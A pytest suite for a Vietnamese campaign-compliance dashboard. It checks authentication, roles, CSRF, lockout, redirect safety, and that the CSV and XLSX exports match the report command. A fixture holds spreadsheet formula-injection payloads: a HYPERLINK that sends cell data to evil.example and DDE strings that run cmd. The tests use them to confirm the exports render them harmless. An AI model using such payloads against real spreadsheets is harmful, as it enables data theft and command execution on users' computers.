"""The dashboard against a simulated district: its numbers are the report command's numbers,
its pages are behind a login with roles, its exports and metrics say the same thing."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook
from prometheus_client.parser import text_string_to_metric_families
from starlette.testclient import TestClient

from broker import cli
from broker.report.build import report_from_store
from broker.store import open_store
from broker.web import queries
from tests.test_dashboard_support import (  # noqa: F401
    FIRST,
    LAST,
    NOW,
    PASSWORDS,
    csrf_of,
    district,
    log_in,
    make_app,
    table_rows,
    users,
    vi_number,
)

FULL_LAST = LAST - timedelta(days=1)   # the last complete day: "today" is still in progress


@pytest.fixture(scope="module")
def app(district, registry, users, tmp_path_factory):
    return make_app(tmp_path_factory.mktemp("web"), district, registry, users)


@pytest.fixture
def viewer(app):
    with TestClient(app) as client:
        log_in(client, "vanhoa")
        yield client


def report_command(url: str, first: date, last: date, fmt: str, tmp_path) -> bytes:
    out = tmp_path / f"report.{fmt}"
    assert cli.main(["report", "--database", url, "--from", first.isoformat(), "--to", last.isoformat(),
                     "--format", fmt, "--out", str(out)]) == 0
    return out.read_bytes()


# --- access -----------------------------------------------------------------------------------
# Answer without a session: the login page and form, the style sheet and icon, and /metrics
# (Prometheus scrapes it; it holds counts, no names of people). Every other route of the app,
# whatever its method, must refuse an anonymous request: a route added later is walked too.
PUBLIC = {("/login", "GET"), ("/login", "POST"), ("/static", "GET"), ("/favicon.ico", "GET"), ("/metrics", "GET")}
SAMPLE_PARAMS = {"unit": "phuong-bach-mai", "device": "hbt-bach-mai-01", "verb": "play-now", "campaign": "ihanoi"}
STATIC_SAMPLE = "style.css"


def every_route(app) -> list[tuple[str, str, str]]:
    """(route pattern, method, a concrete path) for every route and method of the app."""
    from starlette.routing import Mount, Route

    walked = []
    for route in app.routes:
        if isinstance(route, Mount):
            walked.append((route.path, "GET", f"{route.path}/{STATIC_SAMPLE}"))
            continue
        assert isinstance(route, Route), f"a route of a kind this test does not know: {route!r}"
        missing = set(route.param_convertors) - set(SAMPLE_PARAMS)
        assert not missing, f"{route.path}: give SAMPLE_PARAMS a value for {missing}"
        path = route.path_format.format(**{k: SAMPLE_PARAMS[k] for k in route.param_convertors})
        walked += [(route.path, method, path) for method in sorted(route.methods - {"HEAD"})]
    return walked


def test_every_route_but_the_public_ones_refuses_an_anonymous_request(app):
    walked = every_route(app)
    patterns = {(p, m) for p, m, _ in walked}
    assert {("/fleet.csv", "GET"), ("/fleet.xlsx", "GET"), ("/compliance.xlsx", "GET"), ("/compliance.csv", "GET"),
            ("/devices/{device}/{verb}", "POST"), ("/logout", "POST"), ("/", "GET"), ("/campaigns", "GET"),
            ("/campaigns", "POST"), ("/campaigns/{campaign}/end", "POST")} <= patterns
    assert PUBLIC <= patterns, "a public route listed here is gone: update PUBLIC"
    with TestClient(app) as client:
        for pattern, method, path in walked:
            r = client.request(method, path, follow_redirects=False, data={"csrf": "x"} if method == "POST" else None)
            if (pattern, method) in PUBLIC:
                assert r.status_code < 500, (method, path)
                continue
            refused = (r.status_code == 303 and r.headers["location"].startswith("/login?next=")) \
                or r.status_code in (401, 403)
            assert refused, f"{method} {path} answered {r.status_code} without a session"
            assert "Tuân thủ" not in r.text and "Thiết bị" not in r.text, (method, path)


def test_behind_the_proxy_every_route_but_the_public_ones_needs_the_proxys_user(district, registry, users, tmp_path):
    app = make_app(tmp_path, district, registry, users, auth="proxy")
    with TestClient(app) as client:
        for pattern, method, path in every_route(app):
            if (pattern, method) in PUBLIC:
                continue
            r = client.request(method, path, follow_redirects=False, data={"csrf": "x"} if method == "POST" else None,
                               headers={"X-Remote-User": "stranger"})
            assert r.status_code == 403, (method, path, r.status_code)


def test_a_viewer_may_read_every_page_but_send_nothing(viewer, app):
    for pattern, method, path in every_route(app):
        if (pattern, method) in PUBLIC or pattern in ("/logout", "/snapshots/{device}.png"):
            continue
        r = viewer.request(method, path, follow_redirects=False, data={"csrf": "x"} if method == "POST" else None)
        assert r.status_code == (403 if method == "POST" else 200) or (pattern == "/" and r.status_code == 303), \
            (method, path, r.status_code)


def test_a_cookie_copied_before_logout_does_not_work_after_it(app):
    with TestClient(app) as owner, TestClient(app) as copy:
        log_in(owner, "vanhoa")
        copy.cookies.set("ihanoi_session", owner.cookies.get("ihanoi_session"))
        assert copy.get("/compliance", follow_redirects=False).status_code == 200    # the copy works, until:
        page = owner.get("/compliance").text
        assert owner.post("/logout", data={"csrf": csrf_of(page)}, follow_redirects=False).status_code == 303
        assert copy.get("/compliance", follow_redirects=False).status_code == 303
        assert copy.get("/fleet.csv", follow_redirects=False).status_code == 303


def test_a_password_change_in_the_users_file_ends_that_users_sessions_only(district, registry, tmp_path):
    import os

    from broker.web.users import hash_password, load_users

    kythuat_hash = hash_password(PASSWORDS["kythuat"])    # unchanged throughout

    def write(vanhoa_password: str) -> None:
        tmp = tmp_path / "users.toml.new"
        tmp.write_text(f'[[user]]\nname = "vanhoa"\nrole = "viewer"\npassword = "{hash_password(vanhoa_password)}"\n'
                       f'[[user]]\nname = "kythuat"\nrole = "operator"\npassword = "{kythuat_hash}"\n',
                       encoding="utf-8")
        os.replace(tmp, tmp_path / "users.toml")       # as ansible's template module replaces a file

    def sign_in(client, name, password) -> int:
        page = client.get("/login").text
        return client.post("/login", data={"username": name, "password": password, "csrf": csrf_of(page)},
                           follow_redirects=False).status_code

    write(PASSWORDS["vanhoa"])
    app = make_app(tmp_path, district, registry, load_users(tmp_path / "users.toml"))
    with TestClient(app) as vanhoa, TestClient(app) as kythuat:
        assert sign_in(vanhoa, "vanhoa", PASSWORDS["vanhoa"]) == 303
        assert sign_in(kythuat, "kythuat", PASSWORDS["kythuat"]) == 303
        write("mat-khau-moi-2024")
        assert vanhoa.get("/compliance", follow_redirects=False).status_code == 303
        assert kythuat.get("/compliance", follow_redirects=False).status_code == 200
        write(PASSWORDS["vanhoa"])                          # even the old password back: that session is over
        assert vanhoa.get("/compliance", follow_redirects=False).status_code == 303
        assert sign_in(vanhoa, "vanhoa", PASSWORDS["vanhoa"]) == 303
        assert vanhoa.get("/compliance", follow_redirects=False).status_code == 200


def test_a_wrong_password_is_refused_in_vietnamese(app):
    with TestClient(app) as client:
        page = client.get("/login").text
        r = client.post("/login", data={"username": "vanhoa", "password": "sai-mat-khau", "csrf": csrf_of(page)})
        assert r.status_code == 401 and "Sai tên đăng nhập hoặc mật khẩu" in r.text
        assert client.get("/compliance", follow_redirects=False).status_code == 303


def test_a_form_without_the_session_token_is_refused(app):
    with TestClient(app) as client:
        client.get("/login")
        r = client.post("/login", data={"username": "vanhoa", "password": PASSWORDS["vanhoa"], "csrf": "forged"})
        assert r.status_code == 403


def test_a_form_posted_before_any_page_is_refused_with_the_reason_not_an_error(app):
    # A session that was never served a page holds no token to compare with.
    said = "<p>Phiên làm việc đã hết hạn hoặc biểu mẫu không hợp lệ; hãy tải lại trang.</p>"   # the page's reason
    with TestClient(app) as client:
        for form in ({"csrf": "x"}, {"csrf": ""}, {}):
            r = client.post("/login", data={"username": "vanhoa", "password": PASSWORDS["vanhoa"], **form})
            assert r.status_code == 403 and said in r.text, form
        page = client.get("/login").text
        r = client.post("/login", data={"username": "vanhoa", "password": PASSWORDS["vanhoa"]})
        assert r.status_code == 403 and said in r.text                      # a page served, the token left out
        assert client.get("/compliance", follow_redirects=False).status_code == 303
        assert csrf_of(page)


def test_a_session_keeps_one_form_token_and_another_session_gets_its_own(app):
    with TestClient(app) as one, TestClient(app) as two:
        token = csrf_of(one.get("/login").text)
        assert csrf_of(one.get("/login").text) == token and len(token) == 32     # 24 random bytes, URL-safe
        assert csrf_of(two.get("/login").text) != token
        log_in(one, "vanhoa")                                               # a login starts a new session
        signed_in = csrf_of(one.get("/compliance").text)
        assert signed_in != token and csrf_of(one.get("/fleet").text) == signed_in


def test_after_login_the_user_lands_where_they_were_going_and_never_off_site(app):
    with TestClient(app) as client:
        page = client.get("/login?next=/fleet").text
        r = client.post("/login", data={"username": "vanhoa", "password": PASSWORDS["vanhoa"],
                                        "csrf": csrf_of(page), "next": "//evil.example/x"}, follow_redirects=False)
        assert r.headers["location"] == "/compliance"
        assert client.get("/fleet").status_code == 200


def test_logging_out_ends_the_session(viewer):
    page = viewer.get("/compliance").text
    assert viewer.post("/logout", data={"csrf": csrf_of(page)}, follow_redirects=False).status_code == 303
    assert viewer.get("/compliance", follow_redirects=False).status_code == 303


def test_a_viewer_cannot_reach_operator_routes(viewer):
    page = viewer.get("/fleet").text
    assert "Phát ngay" not in page
    r = viewer.post("/devices/hbt-bach-mai-01/play-now", data={"csrf": csrf_of(page)}, follow_redirects=False)
    assert r.status_code == 403 and "operator" in r.text


def test_behind_a_reverse_proxy_the_proxys_user_header_decides(district, registry, users, tmp_path):
    app = make_app(tmp_path, district, registry, users, auth="proxy")
    with TestClient(app) as client:
        assert client.get("/compliance", headers={"X-Remote-User": "vanhoa"}).status_code == 200
        assert client.get("/compliance").status_code == 403
        assert client.get("/compliance", headers={"X-Remote-User": "stranger"}).status_code == 403
        assert client.get("/compliance", headers={"X-Remote-User": ""}).status_code == 403
        r = client.post("/devices/hbt-bach-mai-01/play-now", data={"csrf": "x"},
                        headers={"X-Remote-User": "vanhoa"})
        assert r.status_code == 403


def test_pages_may_load_nothing_from_elsewhere(viewer):
    csp = viewer.get("/compliance").headers["content-security-policy"]
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp


def test_an_unreadable_store_gives_a_page_that_says_so(registry, users, tmp_path):
    from broker.store.store import Store, create_store_engine
    from broker.web.app import create_app
    from ihanoi.contract.clock import SimClock
    from tests.test_dashboard_support import SECRET, make_config

    empty = Store(create_store_engine(f"sqlite:///{tmp_path / 'empty.sqlite3'}"))   # no tables
    app = create_app(make_config(tmp_path, "sqlite://", ), store=empty, registry=registry, clock=SimClock(NOW),
                     users=users, secret=SECRET)
    with TestClient(app, raise_server_exceptions=False) as client:
        log_in(client, "vanhoa")
        r = client.get("/compliance")
        assert r.status_code == 503 and "Không đọc được cơ sở dữ liệu" in r.text


# --- compliance: the report command's numbers ---------------------------------------------------
def test_the_compliance_tables_show_the_report_commands_numbers(viewer, district, tmp_path):
    expected = json.loads(report_command(district, FIRST, FULL_LAST, "json", tmp_path))
    page = viewer.get(f"/compliance?from={FIRST:%d/%m/%Y}&to={FULL_LAST:%d/%m/%Y}").text

    days = {(r["unit"], r["day"]): r for r in table_rows(page, "days")}
    assert len(days) == len(expected["days"]) > 0
    for d in expected["days"]:
        row = days[(d["unit"], d["day"])]
        assert row["plays"] == d["plays"]
        assert row["audience"] == d["audience"]
        assert row["peak_share"] == (None if d["peak_share"] is None else pytest.approx(d["peak_share"], abs=0.0051))
        assert row["class"] == ("ok" if d["compliant"] else "behind")
        assert ("Đạt" if d["compliant"] else "Chưa đạt") in row["text"]

    units = {r["unit"]: r for r in table_rows(page, "units")}
    for u in expected["units"]:
        row = units[u["unit"]]
        assert (row["plays"], row["compliant_days"]) == (u["plays"], u["compliant_days"])
        assert row["average"] == (None if u["average_per_device_day"] is None
                                  else pytest.approx(u["average_per_device_day"], abs=0.05))
        assert row["text"].count("Chưa đạt") == (u["meets_average"] is False) + (u["compliant_every_day"] is False)
    # The simulated district has both kinds of unit, or this test would prove little.
    assert {d["compliant"] for d in expected["days"]} == {True, False}


def test_the_district_summary_covers_the_campaign_to_date(viewer, district, registry, tmp_path):
    # "Today" is in progress and not yet counted, so the campaign to date is the report up to yesterday.
    expected = json.loads(report_command(district, registry.campaign.first_day, FULL_LAST, "json", tmp_path))
    page = viewer.get("/compliance").text
    d = expected["district"]

    def card(card_id):
        return page.split(f'id="{card_id}">', 1)[1].split("<", 1)[0]

    assert card("units-compliant") == f"{d['units_compliant_every_day']}/{d['units']}"
    assert card("units-average") == f"{d['units_meeting_average']}/{d['units']}"
    assert vi_number(card("district-plays")) == d["plays"] > 0
    assert vi_number(card("district-average")) == pytest.approx(d["average_per_device_day"], abs=0.05)


def test_the_kind_filter_keeps_only_units_of_that_kind(viewer, registry):
    page = viewer.get(f"/compliance?kind=health&from={FIRST:%d/%m/%Y}&to={FULL_LAST:%d/%m/%Y}").text
    shown = {r["unit"] for r in table_rows(page, "units")}
    assert shown == {u.id for u in registry.units if u.kind == "health"}
    assert {r["unit"] for r in table_rows(page, "days")} <= shown


def test_a_bad_date_is_explained_not_a_crash(viewer):
    r = viewer.get("/compliance?from=31/02/2024")
    assert r.status_code == 400 and "dd/mm/yyyy" in r.text
    r = viewer.get("/compliance?from=13/09/2024&to=09/09/2024")
    assert r.status_code == 400 and "trước ngày bắt đầu" in r.text


def test_unit_names_keep_their_diacritics(viewer):
    page = viewer.get("/compliance").text
    for name in ("UBND phường Bạch Đằng", "UBND phường Đồng Nhân", "UBND phường Bùi Thị Xuân"):
        assert name in page


# --- exports ----------------------------------------------------------------------------------
def test_the_csv_export_is_the_report_commands_csv(viewer, district, tmp_path):
    expected = report_command(district, FIRST, FULL_LAST, "csv", tmp_path)
    r = viewer.get(f"/compliance.csv?from={FIRST:%d/%m/%Y}&to={FULL_LAST:%d/%m/%Y}")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.content == expected
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][0].startswith("BÁO CÁO KẾT QUẢ PHÁT: IHANOI") and rows[2][0].startswith("Kỳ báo cáo: 09/09/2024")
    assert rows[3][:3] == ["Ngày", "Mã đơn vị", "Đơn vị"]
    assert 'filename="tuan-thu-ihanoi-20240909-20240912.csv"' in r.headers["content-disposition"]


def test_the_xlsx_export_holds_the_same_numbers(viewer, district, registry):
    r = viewer.get(f"/compliance.xlsx?from={FIRST:%d/%m/%Y}&to={FULL_LAST:%d/%m/%Y}&kind=ward")
    wb = load_workbook(io.BytesIO(r.content))
    sheet = wb["Theo đơn vị"]
    header = [c.value for c in sheet[1]]
    got = {row[header.index("Mã đơn vị")]: row[header.index("Tổng lượt phát")]
           for row in sheet.iter_rows(min_row=2, values_only=True)}
    store = open_store(district)
    report = report_from_store(store, registry, FIRST, FULL_LAST, NOW)
    store.close()
    assert got == {u.unit: u.plays for u in report.units if registry.unit(u.unit).kind == "ward"}


def test_the_fleet_exports_list_every_board(viewer, registry):
    rows = list(csv.DictReader(io.StringIO(viewer.get("/fleet.csv").content.decode("utf-8-sig"))))
    assert [r["Thiết bị"] for r in rows] == [d.id for _, d in registry.devices()]
    wb = load_workbook(io.BytesIO(viewer.get("/fleet.xlsx").content))
    assert wb["Thiết bị"].max_row == len(rows) + 1


# --- a unit's charts ----------------------------------------------------------------------------
def test_a_units_hourly_chart_adds_up_to_the_reports_plays(viewer, district, registry, app):
    web = app.state.web
    for unit in ("phuong-bach-mai", "phuong-cau-den"):   # two boards; a board that plays before opening
        report = queries.compliance(web.store, registry, FIRST, LAST, NOW, web.offline_after, unit=unit)
        # A unit's rows do not depend on the other units: cut from the district's, they are the same.
        whole = queries.compliance(web.store, registry, FIRST, LAST, NOW, web.offline_after)
        assert queries.of_unit(whole, unit).days == report.days
        profile = queries.hour_profile(web.store, registry, report, unit)
        assert profile.plays == sum(d.plays for d in report.days) > 0
        assert profile.days == len(report.days)
        # The plays sit on the crowd: the busiest hour of traffic is among the most played.
        busiest = profile.hours[profile.onsets_per_day.index(max(profile.onsets_per_day))]
        assert profile.plays_per_day[profile.hours.index(busiest)] >= sorted(profile.plays_per_day)[-3]
    page = viewer.get("/units/phuong-bach-mai").text
    assert page.count("<svg") == 2 and "định mức" in page and "UBND phường Bạch Mai" in page
    assert viewer.get("/units/no-such-unit").status_code == 404


# --- fleet ------------------------------------------------------------------------------------
def test_the_fleet_page_highlights_silent_boards_and_shows_their_health(viewer, registry):
    rows = {r["device"]: r for r in table_rows(viewer.get("/fleet").text, "fleet")}
    assert set(rows) == {d.id for _, d in registry.devices()}
    dark = [d for d, r in rows.items() if r["state"] == "offline"]
    never = [d for d, r in rows.items() if r["state"] == "never seen"]
    assert dark and never
    for device in dark + never:
        assert rows[device]["class"] == "offline"
    assert "Mất kết nối" in rows[dark[0]]["text"] and "Chưa kết nối" in rows[never[0]]["text"]
    online = [r for r in rows.values() if r["state"] == "online"]
    assert online and all(r["class"] == "" and "Trực tuyến" in r["text"] for r in online)
    page = viewer.get("/fleet").text
    assert '<td class="n warn" title="Mới nhất: 3">2</td>' in page   # a board still on the old content
    texts = " ".join(r["text"] for r in online)
    assert "78,5 °C" in texts and "Chưa đồng bộ" in texts and " 37 " in texts
    only = table_rows(viewer.get("/fleet?offline=1").text, "fleet")
    assert {r["device"] for r in only} == set(dark + never)


def test_metrics_count_the_fleet_and_todays_plays(app, registry):
    web = app.state.web
    with TestClient(app) as client:
        text = client.get("/metrics").text     # Prometheus scrapes without a login
    metrics = {(s.name, tuple(sorted(s.labels.items()))): s.value
               for fam in text_string_to_metric_families(text) for s in fam.samples}
    fleet = queries.fleet(web.store, registry, NOW, web.offline_after)
    today = queries.compliance(web.store, registry, NOW.date(), NOW.date(), NOW, web.offline_after)
    assert metrics[("ihanoi_devices", (("state", "online"),))] == sum(r.note.state == "online" for r in fleet) > 0
    assert metrics[("ihanoi_devices", (("state", "never_seen"),))] == sum(r.note.state == "never seen" for r in fleet)
    ihanoi = (("campaign", "ihanoi"),)                      # the only campaign of this district's store
    assert metrics[("ihanoi_plays_today", ihanoi)] == sum(d.plays for d in today.days) > 0
    assert metrics[("ihanoi_units_behind_quota", ihanoi)] == sum(bool(d.below_quota) for d in today.days) > 0
    assert {labels for name, labels in metrics if name == "ihanoi_plays_today"} == {ihanoi}
    assert metrics[("ihanoi_device_cpu_temperature_celsius",
                    (("device", "hbt-cau-den-01"), ("unit", "phuong-cau-den")))] == 78.5


def test_before_the_campaign_starts_the_pages_are_empty_not_broken(district, registry, users, tmp_path):
    from datetime import datetime

    from ihanoi.contract.clock import CAMPAIGN_TZ

    app = make_app(tmp_path, district, registry, users, now=datetime(2024, 8, 1, 9, 0, tzinfo=CAMPAIGN_TZ))
    with TestClient(app) as client:
        log_in(client, "vanhoa")
        page = client.get("/compliance").text
        assert "Không có ngày làm việc nào trong khoảng đã chọn" in page and not table_rows(page, "days")
        assert client.get("/units/phuong-bach-dang").status_code == 200
        assert client.get("/fleet").status_code == 200


def test_guessing_passwords_locks_the_name_for_a_while(district, registry, users, tmp_path):
    app = make_app(tmp_path, district, registry, users)
    clock = app.state.web.clock

    def attempt(client, password):
        page = client.get("/login").text
        return client.post("/login", data={"username": "kythuat", "password": password, "csrf": csrf_of(page)},
                           follow_redirects=False)

    with TestClient(app) as client:
        for i in range(5):
            assert attempt(client, f"doan-mo-{i}").status_code == 401
        r = attempt(client, PASSWORDS["kythuat"])
        assert r.status_code == 429
        assert ('<p class="error" role="alert">Đăng nhập sai quá nhiều lần; tài khoản tạm khóa, hãy thử lại sau '
                '15 phút.</p>') in r.text
        clock.advance(16 * 60)
        for i in range(4):
            assert attempt(client, f"doan-lai-{i}").status_code == 401
        assert attempt(client, PASSWORDS["kythuat"]).status_code == 303
        # the right password forgets the failures before it: four more are still not five
        for i in range(4):
            assert attempt(client, f"lan-nua-{i}").status_code == 401


# --- what boards send is text in every spreadsheet, never a formula ------------------------------
HOSTILE_TEXT = {"content_version": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
                "software_version": "+cmd|' /C calc'!A0", "content_id": "@SUM(1+1)*cmd|' /C calc'!A0"}


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory, registry, users):
    """A district store where one board (hbt-bach-mai-01) reports versions that are formulas,
    sent as a board sends them and taken in by the collector's own path."""
    from broker.collector.batch import Incoming, prepare
    from ihanoi.contract import protocol
    from ihanoi.tools.sample_district import simulate_district

    tmp = tmp_path_factory.mktemp("hostile-web")
    url = f"sqlite:///{tmp / 'store.sqlite3'}"
    store = open_store(url)
    simulate_district(store, registry, FIRST, LAST, NOW, ["phuong-bach-mai", "phuong-bach-dang"])
    topics = protocol.Topics()
    beat = protocol.Health(device="hbt-bach-mai-01", time=NOW - timedelta(seconds=20), uptime_s=60.0,
                           outbox_depth=0, outbox_dropped=0, clock_synced=True, **HOSTILE_TEXT)
    state = protocol.State(device="hbt-bach-mai-01", state="online", since=NOW - timedelta(seconds=10),
                           software_version="-2+3", content_version="\t=1+1")
    batch = [Incoming(topics.up(m.device, kind), m.to_json(), 1, 1, 0)
             for kind, m in (("health", beat), ("state", state))]
    p = prepare(batch, topics, registry, NOW)
    assert not p.quarantined, "the protocol accepts such text: the exports must make it harmless"
    store.write_batch(p.events, p.quarantined, list(p.seen.values()), list(p.health_states.values()),
                      list(p.states.values()))
    store.close()
    return make_app(tmp, url, registry, users)


def formula_cells(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))
    return [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def text_cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def test_a_boards_formula_is_text_in_the_fleet_csv(hostile_app):
    with TestClient(hostile_app) as client:
        log_in(client, "vanhoa")
        text = client.get("/fleet.csv").content.decode("utf-8-sig")
    rows = {r["Thiết bị"]: r for r in csv.DictReader(io.StringIO(text))}
    board = rows["hbt-bach-mai-01"]
    assert board["Phiên bản nội dung"] == "'\t=1+1"                     # the state's, newest
    assert board["Phiên bản phần mềm"] == "'-2+3"
    for cell in (v for r in csv.reader(io.StringIO(text)) for v in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert any("mới nhất: \t=1+1" in r["Ghi chú"] for r in rows.values())   # named in a note, as text


@pytest.mark.parametrize("path", ["/fleet.xlsx", f"/compliance.xlsx?from={FIRST:%d/%m/%Y}&to={LAST:%d/%m/%Y}"])
def test_a_boards_formula_is_text_in_every_workbook(hostile_app, path):
    with TestClient(hostile_app) as client:
        log_in(client, "vanhoa")
        content = client.get(path).content
    assert formula_cells(content) == []
    risky = [c for c in text_cells(content) if c.value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert risky, "the board's text is in the workbook, unchanged"
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)



def test_a_board_that_cannot_be_driven_is_shown_dark_with_its_reason(tmp_path, registry, users):
    from broker.store import open_store
    from broker.store.rows import health_state_row
    from ihanoi.contract import protocol

    url = f"sqlite:///{tmp_path / 'dark.sqlite3'}"
    store = open_store(url)
    fault = "the rgbmatrix output cannot start: /dev/gpiomem is missing (not a Raspberry Pi?)"
    heartbeat = protocol.Health(device="hbt-bach-mai-01", time=NOW - timedelta(seconds=30), uptime_s=60,
                                outbox_depth=0, outbox_dropped=0, software_version="0.1.0", clock_synced=True,
                                screen_fault=fault)
    store.write_batch({}, seen=[{"device": "hbt-bach-mai-01", "unit": "phuong-bach-mai", "last_seen": NOW}],
                      health_states=[health_state_row(heartbeat, "phuong-bach-mai")])
    with TestClient(make_app(tmp_path, url, registry, users)) as client:
        log_in(client, "vanhoa")
        rows = {r["device"]: r for r in table_rows(client.get("/fleet").text, "fleet")}
        assert "Màn hình tối" in rows["hbt-bach-mai-01"]["text"] and fault in rows["hbt-bach-mai-01"]["text"]
        assert "Màn hình tối" not in rows["hbt-bach-mai-02"]["text"]
        exported = client.get("/fleet.csv").content.decode("utf-8-sig")
        assert f"màn hình tối: {fault}" in exported
